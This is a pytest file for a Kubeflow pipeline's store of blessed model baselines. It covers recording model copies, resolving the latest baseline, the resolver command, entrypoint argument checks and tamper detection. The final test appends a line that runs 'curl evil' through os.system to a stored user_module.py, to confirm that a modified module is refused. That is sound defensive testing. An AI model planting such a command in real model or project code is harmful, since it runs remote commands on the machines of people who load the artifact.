"""The latest-blessed baseline on Kubeflow: the store the Evaluator's task records into and the resolver reads."""

import json
import time

import pytest

from kflow.components.evaluator import Evaluator
from kflow.pipeline.kubeflow import baselines
from kflow.pipeline.runners.kfp_entrypoint import main as entrypoint
from tests.pipeline.toy.components import Judge


def a_model(folder, content):
    folder.mkdir(parents=True)
    (folder / "model.keras").write_bytes(content)
    (folder / "assets").mkdir()
    (folder / "assets" / "vocab.txt").write_text("a\nb\n")
    return folder


def test_an_empty_store_gives_no_baseline(tmp_path):
    assert baselines.latest_blessed(tmp_path / "store", "minio://runs/1/train/model") == ""


def test_the_newest_blessed_model_is_the_baseline_except_for_itself(tmp_path):
    store = tmp_path / "store"
    first = baselines.record_blessed_model(store, a_model(tmp_path / "m1", b"one"), "minio://r1/model", None)
    time.sleep(0.01)
    second = baselines.record_blessed_model(store, a_model(tmp_path / "m2", b"two"), "minio://r2/model", "/base")
    first_copy, second_copy = (json.loads(path.read_text())["model_path"] for path in (first, second))
    # The whole model folder is copied; no partial copy or record is left behind.
    assert (tmp_path / "store" / "models").joinpath(second_copy.rpartition("/")[2], "assets", "vocab.txt").is_file()
    assert sorted(p.name.startswith(".partial") for p in (store / "models").iterdir()) == [False, False]
    assert open(f"{second_copy}/model.keras", "rb").read() == b"two"

    assert baselines.latest_blessed(store, "minio://r3/model") == second_copy
    # The model being judged is the newest blessed one (a cached Trainer): its own baseline, not itself.
    assert baselines.latest_blessed(store, "minio://r2/model") == "/base"
    assert baselines.latest_blessed(store, "minio://r1/model") == second_copy

    # A record whose copy is gone, or that cannot be read, is skipped.
    (store / "models" / second_copy.rpartition("/")[2] / "model.keras").unlink()
    (store / "records" / "zzz.json").write_text("{not json")
    assert baselines.latest_blessed(store, "minio://r3/model") == first_copy


def test_the_resolver_command_writes_the_baseline_to_its_output(tmp_path):
    store = tmp_path / "store"
    record = baselines.record_blessed_model(store, a_model(tmp_path / "m", b"m"), "gs://b/model", None)
    output = tmp_path / "out" / "baseline_model_uri"
    assert baselines.main(["--store", str(store), "--model-uri", "gs://c/model", "--output", str(output)]) == 0
    assert output.read_text() == json.loads(record.read_text())["model_path"]


def test_the_gated_model_is_the_one_required_model_input():
    assert baselines.gated_model_input(Evaluator.spec) == "model"  # Not the optional baseline_model.
    with pytest.raises(ValueError, match="one required Model input, found none"):
        baselines.gated_model_input(Judge.spec)


def test_the_entrypoint_refuses_to_record_an_output_it_does_not_have(tmp_path, capsys):
    args = ["--component", "tests.pipeline.toy.components:Judge", "--input", f"numbers={tmp_path}"]
    args += ["--output", f"blessing={tmp_path / 'b'}", "--record-blessed-model", f"nope={tmp_path}"]
    assert entrypoint(args) == 2
    assert "--record-blessed-model 'nope=" in capsys.readouterr().err
    assert entrypoint([*args[:-1], f"blessing={tmp_path}"]) == 2  # Judge judges no model.
    assert "one required Model input" in capsys.readouterr().err


def test_a_blessed_copy_whose_user_module_changed_is_refused(tmp_path):
    store = tmp_path / "store"
    model = a_model(tmp_path / "m", b"m")
    (model / "assets" / "user_module.py").write_text("def build_model(): ...\n")
    record = baselines.record_blessed_model(store, model, "gs://b/model", None)
    copy = json.loads(record.read_text())["model_path"]
    assert baselines.latest_blessed(store, "gs://c/model") == copy
    with open(f"{copy}/assets/user_module.py", "a") as module:
        module.write("import os; os.system('curl evil')\n")
    with pytest.raises(ValueError, match="user_module.py changed since it was blessed"):
        baselines.latest_blessed(store, "gs://c/model")
